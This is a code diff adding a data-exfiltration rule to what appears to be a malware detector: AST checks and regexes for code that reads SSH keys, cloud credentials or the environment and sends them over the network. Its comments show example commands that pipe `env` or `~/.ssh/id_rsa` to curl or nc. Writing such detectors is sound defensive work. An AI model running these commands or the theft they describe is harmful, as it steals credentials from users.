@@ -6,6 +6,9 @@
   user unit) written by a program that hides its window or wears a system process's name;
 - packet_flood: an endless sender started 100+ times (threads, tasks, gather) with no pause,
   or 100+ connections held open to one remote host and fed forever (slowloris);
+- data_exfiltration: a program that opens a credential store (SSH keys, cloud and package
+  credentials, browser logins) or dumps the whole environment and sends it over the network:
+  the payload of a `setup.py` install hook, a CI step or a "helper" script;
 - token rules for shell/PowerShell/JS: a form's password sent to another origin, a script
   copying itself to hosts in a loop, a recursive encryption that sends its key away.
 Never raises.
@@ -160,13 +163,63 @@ def _flood(tree: ast.Module) -> bool:
     return False
 
 
+_CREDENTIAL_STORE = re.compile(
+    r"\.ssh\b|id_rsa|id_ed25519|id_ecdsa|\.aws[/\\]+credentials|\.netrc|\.pypirc|"
+    r"\.git-credentials|Login Data|\bCookies\b|\.docker[/\\]+config\.json|\.kube[/\\]+config|"
+    r"\.gnupg|wallet\.dat|keychain",
+    re.I,
+)
+_READS = {"open", "read_text", "read_bytes", "copyfile", "copy", "make_archive", "ZipFile", "glob"}
+_NETWORK = {"urlopen", "post", "put", "sendall", "sendto", "sendmail", "send_message", "Request"}
+
+
+def _environ_dump(tree: ast.Module) -> bool:
+    """The whole environment taken as data (`dict(os.environ)`, `os.environ.copy()`)."""
+    for call in _calls(tree):
+        args = [*call.args, *(k.value for k in call.keywords)]
+        func = call.func
+        if isinstance(func, ast.Attribute) and func.attr in {"copy", "items"}:
+            args.append(func.value)
+        for arg in args:
+            if isinstance(arg, ast.Attribute) and arg.attr == "environ":
+                return True
+    return False
+
+
+def _exfiltration(tree: ast.Module) -> bool:
+    """Opens a credential store (or dumps the environment) and sends over the network.
+
+    The file must be read, not named: a deploy script's `key_filename="~/.ssh/id_rsa"` is
+    the key used, not stolen.
+    """
+    reads = _environ_dump(tree) or any(
+        _name(call) in _READS and any(_CREDENTIAL_STORE.search(s) for s in _strings(call))
+        for call in _calls(tree)
+    )
+    return reads and any(_name(call) in _NETWORK for call in _calls(tree))
+
+
 _AST_RULES = {
+    "data_exfiltration": _exfiltration,
     "phishing": _phishing,
     "covert_persistence": _covert_persistence,
     "packet_flood": _flood,
 }
 
+_CREDENTIAL_FILES = r"(?:\.ssh/|id_rsa|id_ed25519|\.aws/credentials|\.netrc|\.git-credentials|\.pypirc|/proc/self/environ)"
 _TOKEN_RULES: dict[str, tuple[re.Pattern[str], ...]] = {
+    "data_exfiltration": (
+        # `env | base64 | curl --data-binary @- https://...`, `cat ~/.ssh/id_rsa | nc host 9`
+        re.compile(
+            rf"(?:\b(?:env|printenv)\b|\bcat\s+\S*{_CREDENTIAL_FILES}\S*)[^\n|]{{0,40}}"
+            r"\|[^\n]{0,80}\b(?:curl|wget|nc|ncat|Invoke-RestMethod|Invoke-WebRequest)\b"
+        ),
+        # `curl -d @~/.aws/credentials https://...`, `curl -T ~/.ssh/id_rsa ...`
+        re.compile(
+            r"\b(?:curl|wget)\b[^\n]{0,200}(?:-d|--data(?:-binary|-raw)?|-F|--upload-file|-T|"
+            rf"--post-file)[\s=]*[\"']?(?:\w+=)?@?[^\s\"']*{_CREDENTIAL_FILES}"
+        ),
+    ),
     "phishing": (
         re.compile(
             r"(?s)addEventListener\(\s*['\"]submit['\"].{0,600}"
